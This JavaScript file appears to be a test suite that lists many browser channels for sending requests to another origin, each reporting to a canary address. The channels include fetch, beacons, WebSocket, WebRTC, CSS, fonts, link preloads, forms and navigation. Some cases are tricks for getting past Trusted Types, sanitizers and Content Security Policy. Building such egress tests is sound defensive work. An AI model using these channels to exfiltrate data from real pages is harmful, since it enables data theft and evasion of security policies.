// Ways in which something is sent (O1-O20). `at(path)` is an address on the other origin that tells on this attack.
const put = (tag, attributes, into = document.body) => {
  const e = document.createElement(tag);
  for (const name in attributes) e.setAttribute(name, attributes[name]);
  into.append(e);
  return e;
};
const SVG = 'http://www.w3.org/2000/svg';
const svg = (tag, name, value, ns = null) => {
  const v = document.createElementNS(SVG, 'svg'), e = document.createElementNS(SVG, tag);
  v.append(e);
  document.body.append(v);
  e.setAttributeNS(ns, name, value);
  return e;
};
const styled = css => { const e = put('div', {}); e.textContent = 'x'; css(e); getComputedStyle(e).backgroundImage; return e; };
/** Plays a tone of ten seconds. */
const tone = () => {
  const wave = new DataView(new ArrayBuffer(44 + 80000)), text = (at, word) => { for (let i = 0; i < word.length; i++) wave.setUint8(at + i, word.charCodeAt(i)); };
  text(0, 'RIFF'); wave.setUint32(4, 80036, true); text(8, 'WAVEfmt '); wave.setUint32(16, 16, true); wave.setUint16(20, 1, true); wave.setUint16(22, 1, true);
  wave.setUint32(24, 8000, true); wave.setUint32(28, 8000, true); wave.setUint16(32, 1, true); wave.setUint16(34, 8, true); text(36, 'data'); wave.setUint32(40, 80000, true);
  for (let i = 44; i < wave.byteLength; i++) wave.setUint8(i, 128 + 40 * Math.sin(i / 4));
  const audio = put('audio', {});
  audio.src = URL.createObjectURL(new Blob([wave.buffer], { type: 'audio/wav' }));
  return audio.play().catch(() => 0);
};

export const helpers = { put, SVG, svg, styled, tone };
export default [
  ['O1 fetch', at => fetch(at('/x'), { mode: 'no-cors' })],
  ['O1 fetch of a Request', at => fetch(new Request(at('/x'), { mode: 'no-cors' }))],
  ['O1 fetch of a URL', at => fetch(new URL(at('/x')), { mode: 'no-cors' })],
  ['O1 fetch of something with toString', at => fetch({ toString: () => at('/x') }, { mode: 'no-cors' })],
  ['O1 fetch of something that changes', at => { let n = 0; return fetch({ toString: () => n++ ? at('/x') : '/own' }, { mode: 'no-cors' }).then(() => fetch({ toString: () => n++ % 2 ? '/own' : at('/x') }, { mode: 'no-cors' })); }],
  ['O1 fetch with keepalive', at => fetch(at('/x'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })],
  ['O1 fetch.call', at => fetch.call(window, at('/x'), { mode: 'no-cors' })],
  ['O1 Reflect.apply of fetch', at => Reflect.apply(fetch, self, [at('/x'), { mode: 'no-cors' }])],
  ['O1 fetch of a subclass of Request', at => fetch(new (class extends Request { get url() { return location.href; } })(at('/x'), { mode: 'no-cors' }))],
  ['O2 fetchLater', at => fetchLater(at('/x'), { activateAfter: 0 })],
  ['O3 XMLHttpRequest', at => { const x = new XMLHttpRequest(); x.open('GET', at('/x')); x.send(); }],
  ['O3 XMLHttpRequest, synchronous', at => { const x = new XMLHttpRequest(); x.open('GET', at('/x'), false); try { x.send(); } catch { /* refused */ } }],
  ['O3 XMLHttpRequest opened again', at => { const x = new XMLHttpRequest(); x.open('GET', '/own'); x.open('POST', at('/x')); x.send('x'); }],
  ['O3 a subclass of XMLHttpRequest', at => { const x = new (class extends XMLHttpRequest {})(); x.open('GET', at('/x')); x.send(); }],
  ['O4 sendBeacon', at => navigator.sendBeacon(at('/x'), 'x')],
  ['O5 WebSocket', at => { new WebSocket(at('/x').replace('http', 'ws')); }],
  ['O5 WebSocket with an http address', at => { new WebSocket(at('/x').replace('127.0.0.1', 'w4.localhost')); }, { alone: true }],
  ['O5 Reflect.construct of WebSocket', at => Reflect.construct(WebSocket, [at('/x').replace('http://127.0.0.1', 'ws://w1.localhost')]), { alone: true }],
  ['O5 a subclass of WebSocket', at => { new (class extends WebSocket {})(at('/x').replace('http://127.0.0.1', 'ws://w2.localhost')); }, { alone: true }],
  ['O5 WebSocket by its prototype', at => { new WebSocket.prototype.constructor(at('/x').replace('http://127.0.0.1', 'ws://w3.localhost')); }, { alone: true }],
  ['O5 WebSocketStream', at => { new WebSocketStream(at('/x').replace('http', 'ws')); }],
  ['O6 EventSource', at => { new EventSource(at('/x')); }],
  ['O6 EventSource by its prototype', at => { new EventSource.prototype.constructor(at('/x')); }],
  ['O7 WebTransport', (at, { udp }) => { new WebTransport('https://127.0.0.1:' + udp()).ready.catch(() => 0); }],
  ['O8 WebRTC: STUN', async (at, { udp }) => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp() }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); }],
  ['O8 webkitRTCPeerConnection', async (at, { udp }) => { const p = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp() }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); }],
  ['O8 WebRTC: setConfiguration', async (at, { udp }) => { const p = new RTCPeerConnection(); p.setConfiguration({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp() }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); }],
  // O9: elements that load.
  ['O9 Image', at => { new Image().src = at('/x.gif'); }],
  ['O9 SVG image: a namespace that changes', at => {
    let n = 0;
    const one = svg('image', 'x', '1'), name = { toString: () => n++ % 2 ? 'http://www.w3.org/1999/xlink' : 'x' };
    one.setAttributeNS(name, 'a:href', at('/x.svg'));
    one.setAttributeNS(name, 'b:href', at('/x.svg'));
  }],
  ['O9 trusted markup that lies of itself', at => {
    const made = trustedTypes.createPolicy('liar', { createHTML: text => text }).createHTML(`<img src="${at('/x.gif')}">`), { toString } = TrustedHTML.prototype;
    TrustedHTML.prototype.toString = () => '<b>x</b>';
    try { put('div', {}).innerHTML = made; } finally { TrustedHTML.prototype.toString = toString; }
  }],
  ['O9 a default policy that makes something else of markup', async at => {
    trustedTypes.createPolicy('default', { createHTML: () => `<img src="${at('/x.gif')}">` });
    const rule = document.createElement('meta');
    rule.httpEquiv = 'Content-Security-Policy';
    rule.content = `require-trusted-types-for 'script'`;
    document.head.append(rule);
    put('div', {}).innerHTML = 'x';
  }, { alone: true }],
  ['S2 a default policy that makes another address of a script\'s', async at => {
    trustedTypes.createPolicy('default', { createScriptURL: () => at('/x.js') });
    const rule = document.createElement('meta'), script = document.createElement('script');
    rule.httpEquiv = 'Content-Security-Policy';
    rule.content = `require-trusted-types-for 'script'`;
    document.head.append(rule);
    script.src = '/own';
    document.head.append(script);
  }, { alone: true }],
  ['O9 img srcset', at => { new Image().srcset = at('/x.gif') + ' 1x'; }],
  ['O9 img srcset with a comma', at => { new Image().srcset = '/own.gif 2x, ' + at('/x.gif') + ' 1x'; }],
  ['O9 img Attr.value', at => { const i = put('img', { src: 'data:' }); i.attributes.src.value = at('/x.gif'); }],
  ['O9 img setAttributeNode', at => { const i = new Image(), a = document.createAttribute('src'); a.value = at('/x.gif'); i.setAttributeNode(a); }],
  ['O9 img lowsrc and the rest', at => put('img', { src: at('/x.gif'), loading: 'eager', width: 9 })],
  ['O9 picture source', at => { const p = put('picture', {}); put('source', { srcset: at('/x.gif') }, p); put('img', { src: 'data:' }, p); }],
  ['O9 picture source, set later', at => { const p = put('picture', {}), s = put('source', {}, p); put('img', { src: 'data:' }, p); s.srcset = at('/x.gif'); }],
  ['O9 input of the kind image', at => { const i = put('input', { type: 'image' }); i.src = at('/x.gif'); }],
  ['O9 input that becomes an image', at => { const i = put('input', { src: at('/x.gif') }); i.type = 'image'; }],
  ['O9 video src', at => { const v = document.createElement('video'); v.src = at('/x.mp4'); v.load(); }],
  ['O9 video in the document', at => put('video', { src: at('/x.mp4'), autoplay: '', muted: '' })],
  ['O9 video poster', at => { put('video', {}).poster = at('/x.gif'); }],
  ['O9 video source', at => { const v = document.createElement('video'); put('source', { src: at('/x.mp4') }, v); document.body.append(v); v.load(); }],
  ['O9 audio', at => { const a = new Audio(at('/x.mp3')); a.load(); }],
  ['O9 audio by the constructor alone', at => { new Audio(at('/x.mp3')).play().catch(() => 0); }],
  ['O9 track', at => { const v = put('video', { src: 'data:video/mp4,' }), k = put('track', { default: '', kind: 'captions' }, v); k.src = at('/x.vtt'); k.track.mode = 'showing'; }],
  ['O9 body background', at => { document.body.setAttribute('background', at('/x.gif')); getComputedStyle(document.body).color; }, { alone: true }],
  ['O9 body background by property', at => { document.body.background = at('/x.gif'); }],
  ['O9 table background', at => put('table', { background: at('/x.gif') }).append('x')],
  ['O9 SVG image', at => svg('image', 'href', at('/x.gif'))],
  ['O9 SVG image xlink:href', at => svg('image', 'xlink:href', at('/x.gif'), 'http://www.w3.org/1999/xlink')],
  ['O9 SVG image href.baseVal', at => { svg('image', 'width', '9').href.baseVal = at('/x.gif'); }],
  ['O9 SVG use', at => svg('use', 'href', at('/x.svg') + '#x')],
  ['O9 SVG feImage', at => { const v = document.createElementNS(SVG, 'svg'); document.body.append(v); v.innerHTML = '<filter id="f"><feImage href="' + at('/x.gif') + '"/></filter><rect width="9" height="9" filter="url(#f)"/>'; }],
  ['O9 SVG in markup', at => { const d = put('div', {}); d.innerHTML = '<svg><image href="' + at('/x.gif') + '" width="9" height="9"/></svg>'; }],
  ['O9 SVG animation of href', at => { const d = put('div', {}); d.innerHTML = '<svg><image width="9" height="9"><set attributeName="href" to="' + at('/x.gif') + '"/></image></svg>'; }],
  ['O9 setAttribute on the prototype', at => Element.prototype.setAttribute.call(put('img', {}), 'src', at('/x.gif'))],
  ['O9 toggled by an attribute map', at => { const i = put('img', { 'data-x': at('/x.gif') }), a = document.createAttribute('src'); a.value = i.dataset.x; i.attributes.setNamedItem(a); }],
  // O10: style.
  ['O10 style.background', at => styled(e => { e.style.background = 'url(' + at('/x.gif') + ')'; })],
  ['O10 style.backgroundImage', at => styled(e => { e.style.backgroundImage = 'url(' + at('/x.gif') + ')'; })],
  ['O10 style["background-image"]', at => styled(e => { e.style['background-image'] = 'url(' + at('/x.gif') + ')'; })],
  ['O10 style.setProperty', at => styled(e => e.style.setProperty('background-image', 'url(' + at('/x.gif') + ')'))],
  ['O10 style.setProperty of a variable', at => styled(e => { e.style.setProperty('--x', 'url(' + at('/x.gif') + ')'); e.style.background = 'var(--x)'; })],
  ['O10 style.cssText', at => styled(e => { e.style.cssText = 'background:url(' + at('/x.gif') + ')'; })],
  ['O10 style attribute', at => styled(e => e.setAttribute('style', 'background:url(' + at('/x.gif') + ')'))],
  ['O10 element.style =', at => styled(e => { e.style = 'background:url(' + at('/x.gif') + ')'; })],
  ['O10 image-set', at => styled(e => { e.style.backgroundImage = 'image-set("' + at('/x.gif') + '" 1x)'; })],
  ['O10 escaped url', at => styled(e => { e.style.backgroundImage = '\\75 rl(' + at('/x.gif') + ')'; })],
  ['O10 listStyleImage', at => styled(e => { e.style.display = 'list-item'; e.style.listStyleImage = 'url(' + at('/x.gif') + ')'; })],
  ['O10 borderImageSource', at => styled(e => { e.style.border = '9px solid'; e.style.borderImageSource = 'url(' + at('/x.gif') + ')'; })],
  ['O10 content', at => styled(e => { e.style.content = 'url(' + at('/x.gif') + ')'; })],
  ['O10 maskImage', at => styled(e => { e.style.webkitMaskImage = 'url(' + at('/x.gif') + ')'; })],
  ['O10 cursor', at => styled(e => { e.style.cursor = 'url(' + at('/x.gif') + '), auto'; })],
  ['O10 filter', at => styled(e => { e.style.maskImage = 'url(' + at('/x.svg') + '#f)'; })],
  ['O10 style element', at => { put('p', { id: 's1' }).append('x'); const s = document.createElement('style'); s.textContent = '#s1{background:url(' + at('/x.gif') + ')}'; document.head.append(s); }],
  ['O10 style element, @import', at => { const s = document.createElement('style'); s.textContent = '@import "' + at('/x.css') + '";'; document.head.append(s); }],
  ['O10 style element, text later', at => { const s = document.createElement('style'); document.head.append(s); s.append('@import "' + at('/x.css') + '";'); }],
  ['O10 style element, innerHTML', at => { const s = document.createElement('style'); document.head.append(s); s.innerHTML = '@import url(' + at('/x.css') + ')'; }],
  ['O10 style element, text node data', at => { const s = document.createElement('style'); s.append('x{}'); document.head.append(s); s.firstChild.data = '@import url(' + at('/x.css') + ');'; }],
  ['O10 style in markup', at => document.body.insertAdjacentHTML('beforeend', '<style>@import "' + at('/x.css') + '"</style>')],
  ['O10 insertRule', at => { put('p', { id: 's2' }).append('x'); const s = document.createElement('style'); document.head.append(s); s.sheet.insertRule('#s2{background:url(' + at('/x.gif') + ')}'); }],
  ['O10 insertRule of an @import', at => { const s = document.createElement('style'); document.head.append(s); s.sheet.insertRule('@import url(' + at('/x.css') + ')'); }],
  ['O10 addRule', at => { put('p', { id: 's3' }).append('x'); const s = document.createElement('style'); document.head.append(s); s.sheet.addRule('#s3', 'background:url(' + at('/x.gif') + ')'); }],
  ['O10 a rule in a rule', at => { put('p', { id: 's4' }).append('x'); const s = document.createElement('style'); s.textContent = '@media all{}'; document.head.append(s); s.sheet.cssRules[0].insertRule('#s4{background:url(' + at('/x.gif') + ')}'); }],
  ['O10 the style of a rule', at => { put('p', { id: 's5' }).append('x'); const s = document.createElement('style'); s.textContent = '#s5{}'; document.head.append(s); s.sheet.cssRules[0].style.background = 'url(' + at('/x.gif') + ')'; }],
  ['O10 an adopted sheet', at => { put('p', { id: 's6' }).append('x'); const s = new CSSStyleSheet(); s.replaceSync('#s6{background:url(' + at('/x.gif') + ')}'); document.adoptedStyleSheets = [s]; }],
  ['O10 CSSStyleSheet.replace', async at => { put('p', { id: 's7' }).append('x'); const s = new CSSStyleSheet(); document.adoptedStyleSheets = [s]; await s.replace('#s7{background:url(' + at('/x.gif') + ')}'); }],
  ['O10 @font-face', at => { put('p', { id: 's8' }).append('x'); const s = document.createElement('style'); s.textContent = '@font-face{font-family:zz;src:url(' + at('/x.woff') + ')}#s8{font-family:zz}'; document.head.append(s); }],
  ['O10 FontFace', at => new FontFace('yy', 'url(' + at('/x.woff') + ')').load()],
  ['O10 FontFace in document.fonts', at => { const f = new FontFace('ww', 'url(' + at('/x.woff') + ')'); document.fonts.add(f); return document.fonts.load('9px ww'); }],
  ['O10 an animation by keyframes', at => { const e = put('div', {}); e.textContent = 'x'; e.animate([{ backgroundImage: 'url(' + at('/x.gif') + ')' }, { backgroundImage: 'none' }], 1e5); getComputedStyle(e).backgroundImage; }],
  ['O10 attributeStyleMap', at => styled(e => e.attributeStyleMap.set('background-image', 'url(' + at('/x.gif') + ')'))],
  ['O10 an SVG presentation attribute', at => { const e = svg('rect', 'width', '9'); e.setAttribute('height', '9'); e.setAttribute('fill', 'url(' + at('/x.svg') + '#f)'); e.setAttribute('filter', 'url(' + at('/x.svg') + '#g)'); }],
  // O11, O12: links.
  ['O11 stylesheet', at => put('link', { rel: 'stylesheet', href: at('/x.css') }, document.head)],
  ['O11 stylesheet by property', at => { const l = document.createElement('link'); l.rel = 'stylesheet'; document.head.append(l); l.href = at('/x.css'); }],
  ['O11 rel after href', at => { const l = document.createElement('link'); l.href = at('/x.css'); document.head.append(l); l.rel = 'stylesheet'; }],
  ['O11 relList', at => { const l = document.createElement('link'); l.href = at('/x.css'); document.head.append(l); l.relList.add('stylesheet'); }],
  ['O11 preload', at => put('link', { rel: 'preload', as: 'image', href: at('/x.gif') }, document.head)],
  ['O11 preload imagesrcset', at => put('link', { rel: 'preload', as: 'image', imagesrcset: at('/x.gif') + ' 1x' }, document.head)],
  ['O11 preload imageSrcset', at => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.imageSrcset = at('/x.gif') + ' 1x'; document.head.append(l); }],
  ['O11 modulepreload', at => put('link', { rel: 'modulepreload', href: at('/x.js') }, document.head)],
  ['O11 prefetch', at => put('link', { rel: 'prefetch', href: at('/x.html') }, document.head), { not: ['firefox'] }],
  ['O11 icon', at => put('link', { rel: 'icon', href: at('/x.ico') }, document.head)],
  ['O11 manifest', at => put('link', { rel: 'manifest', href: at('/x.json') }, document.head)],
  ['O11 a link in markup', at => { const d = put('div', {}); d.innerHTML = '<link rel="stylesheet" href="' + at('/x.css') + '">'; }],
  ['O12 preconnect', (at, { tcp }) => put('link', { rel: 'preconnect', href: 'http://127.0.0.1:' + tcp() }, document.head)],
  ['O12 preconnect by property', (at, { tcp }) => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://127.0.0.1:' + tcp(); document.head.append(l); }],
  // O13-O16: forms, pings, navigation, popups.
  ["O13 an error that a form's address throws, and more in its message", at => { const f = put('iframe', { name: 'e' + Math.random() }), o = put('form', { target: f.name, action: "javascript:throw new Error('%27+fetch(" + JSON.stringify(at('/x')) + ",{mode:%27no-cors%27})+%27')" }), b = put('button', {}, o); b.click(); }],
  ['O13 form.submit into a frame', at => { const f = document.createElement('iframe'), o = document.createElement('form'); f.name = 'f' + Math.random(); document.body.append(f, o); o.target = f.name; o.method = 'post'; o.action = at('/x.html'); o.submit(); }],
  ['O13 requestSubmit into a frame', at => { const f = document.createElement('iframe'), o = document.createElement('form'); f.name = 'g' + Math.random(); document.body.append(f, o); o.target = f.name; o.method = 'post'; o.action = at('/x.html'); o.requestSubmit(); }],
  ['O13 a clicked button with formaction', at => { const f = document.createElement('iframe'), o = document.createElement('form'), b = document.createElement('button'); f.name = 'h' + Math.random(); o.append(b); document.body.append(f, o); o.target = f.name; o.method = 'post'; b.formAction = at('/x.html'); b.click(); }],
  ['O14 ping', at => { const a = document.createElement('a'); a.href = '#x'; a.ping = at('/x'); document.body.append(a); a.click(); }],
  ['O15 location.href', at => { location.href = at('/x.html'); }, { alone: true, open: 'navigation' }],
  ['O15 location.assign', at => location.assign(at('/x.html')), { alone: true, open: 'navigation' }],
  ['O15 location.replace', at => location.replace(at('/x.html')), { alone: true, open: 'navigation' }],
  ['O15 a clicked link', at => { const a = document.createElement('a'); a.href = at('/x.html'); document.body.append(a); a.click(); }, { alone: true }],
  ['O15 a dispatched click', at => { const a = document.createElement('a'); a.href = at('/x.html'); document.body.append(a); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); }, { alone: true }],
  ['O15 meta refresh', at => put('meta', { 'http-equiv': 'refresh', content: '0;url=' + at('/x.html') }, document.head), { alone: true }],
  ['O15 form.submit', at => { const o = document.createElement('form'); o.method = 'post'; o.action = at('/x.html'); document.body.append(o); o.submit(); }, { alone: true }],
  ['O15 window.open into itself', at => { window.open(at('/x.html'), '_self'); }, { alone: true }],
  ['O15 from a child frame', at => { const f = document.createElement('iframe'); f.srcdoc = '<script>top.location=' + JSON.stringify(at('/x.html')) + '</scr' + 'ipt>'; document.body.append(f); }, { alone: true, open: 'navigation' }],
  ['O16 a popup', at => { window.open(at('/x.html')); }],
  ['O18 postMessage to a held frame', at => new Promise(done => { const f = document.createElement('iframe'); f.src = at('/x.html'); f.onload = () => { f.contentWindow.postMessage('x', '*'); done(); }; document.body.append(f); })],
  // What stands beside the usual ways: found by looking at every member that an engine shows.
  ['O10 a processing instruction', at => { const p = document.createProcessingInstruction('xml-stylesheet', 'type="text/css"'); document.insertBefore(p, document.documentElement); p.setAttribute('href', at('/x.css')); }],
  ['O10 a processing instruction in a frame of XML', at => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<?xml-stylesheet href="' + at('/x.css').replace(/&/g, '&amp;') + '" type="text/css"?><html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>'], { type: 'application/xhtml+xml' })); document.body.append(f); }],
  ['O11 relList.add on a quiet link', at => { const l = put('link', { rel: 'canonical', href: at('/x.css') }, document.head); l.relList.add('stylesheet'); l.relList.remove('canonical'); }],
  ['O11 relList.replace on a quiet link', at => { put('link', { rel: 'author', href: at('/x.css') }, document.head).relList.replace('author', 'stylesheet'); }],
  ['O11 relList.toggle on a quiet link', at => { put('link', { rel: 'help', href: at('/x.css') }, document.head).relList.toggle('stylesheet'); }],
  ['O11 relList.value on a quiet link', at => { put('link', { rel: 'next', href: at('/x.css') }, document.head).relList.value = 'stylesheet'; }],
  ['O11 relList on a quiet link', at => { put('link', { rel: 'next', href: at('/x.css') }, document.head).relList = 'stylesheet'; }],
  ['O11 a relList that was taken before', at => { const l = put('link', {}, document.head), list = l.relList; l.rel = 'next'; l.href = at('/x.css'); list.add('stylesheet'); }],
  ['O12 relList.add preconnect', (at, { tcp }) => { put('link', { rel: 'canonical', href: 'http://127.0.0.1:' + tcp() }, document.head).relList.value = 'preconnect'; }],
  ['O13 a button that names its form', at => { const f = put('iframe', { name: 'i' + Math.random() }), o = put('form', { id: 'i' + Math.random(), target: f.name, method: 'post', action: at('/x.html') }); put('button', { form: o.id }).click(); }],
  ['O13 a button behind its label', at => { const f = put('iframe', { name: 'j' + Math.random() }), o = put('form', { target: f.name, method: 'post', action: at('/x.html') }), l = put('label', {}, o); put('button', {}, l); l.click(); }, { open: 'navigation' }],
  ['O13 a button in a shadow tree', at => { const f = put('iframe', { name: 'k' + Math.random() }), r = put('div', {}).attachShadow({ mode: 'closed' }), o = put('form', { target: f.name, method: 'post', action: at('/x.html') }, r); put('button', {}, o).click(); }],
  ['O13 an image that sends its form', at => { const f = put('iframe', { name: 'l' + Math.random() }), o = put('form', { target: f.name, method: 'post', action: at('/x.html') }); put('input', { type: 'image' }, o).click(); }],
  ['O13 an action that changes after the click', at => { const f = put('iframe', { name: 'o' + Math.random() }), o = put('form', { target: f.name, method: 'post' }), b = put('button', {}, o); o.onsubmit = () => { o.action = at('/x.html'); }; b.click(); }],
  ['O13 a submit event that is stopped on its way', at => { const f = put('iframe', { name: 's' + Math.random() }), o = put('form', { target: f.name, method: 'post', action: at('/x.html') }), b = put('button', {}, o); o.onsubmit = event => event.stopPropagation(); b.click(); }],
  ['O13 an action that changes in a submit event that is stopped', at => { const f = put('iframe', { name: 't' + Math.random() }), o = put('form', { target: f.name, method: 'post' }), b = put('button', {}, o); o.onsubmit = event => { event.stopPropagation(); o.action = at('/x.html'); }; b.click(); }, { open: 'submit' }],
  ['O13 an action that changes in requestSubmit', at => { const f = put('iframe', { name: 'q' + Math.random() }), o = put('form', { target: f.name, method: 'post' }); o.onsubmit = () => { o.action = at('/x.html'); }; o.requestSubmit(); }],
  ['O14 a ping of SVG by property', at => { const a = svg('a', 'href', '#x'); a.ping = at('/x'); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); }],
  ['O16 a popup by document.open', at => { document.open(at('/x.html'), '', ''); }],
  ['O16 a popup with attributionsrc', at => { window.open('/own.html', '_blank', 'attributionsrc=' + encodeURIComponent(at('/x'))); }],
  ['P16 attributionSrc of an image', at => { new Image().attributionSrc = at('/x'); }],
  ['O9 the picture of what plays', async at => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: at('/x.gif'), sizes: '512x512', type: 'image/gif' }] });
    await tone();
  }, { ms: 4000 }],
  ['O9 the picture of what plays, set later', async at => {
    const metadata = navigator.mediaSession.metadata = new MediaMetadata({ title: 'x' });
    metadata.artwork = [{ src: at('/x.gif'), sizes: '512x512', type: 'image/gif' }];
    await tone();
  }, { ms: 4000 }],
  ['S4 setHTML', at => put('div', {}).setHTML('<img src="' + at('/x.gif') + '">')],
  ['S4 setHTML with a sanitizer of its own', at => put('div', {}).setHTML('<img src="' + at('/x.gif') + '">', { sanitizer: new Sanitizer({}) })],
  ['S4 setHTML of style', at => put('div', {}).setHTML('<p style="background:url(' + at('/x.gif') + ')">x</p>', { sanitizer: new Sanitizer({}) })],
  ['S4 setHTML of a shadow tree', at => put('div', {}).attachShadow({ mode: 'open' }).setHTML('<img src="' + at('/x.gif') + '">', { sanitizer: new Sanitizer({}) })],
  ['S4 XSLT: an import', at => { new XSLTProcessor().importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="' + at('/x.xsl').replace(/&/g, '&amp;') + '"/></xsl:stylesheet>', 'text/xml')); }],
  ['S4 XSLT: an include', at => { const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="' + at('/x.xsl').replace(/&/g, '&amp;') + '"/><xsl:template match="/">x</xsl:template></xsl:stylesheet>', 'text/xml')); p.transformToDocument(new DOMParser().parseFromString('<x/>', 'text/xml')); }],
  ['S15 a fenced frame', at => { const f = document.createElement('fencedframe'); document.body.append(f); f.config = new FencedFrameConfig(at('/x.html')); }],
  ['device IdentityCredential disconnect, sends', at => IdentityCredential.disconnect({ configURL: at('/x.json'), clientId: 'x', accountHint: 'x' })],
];
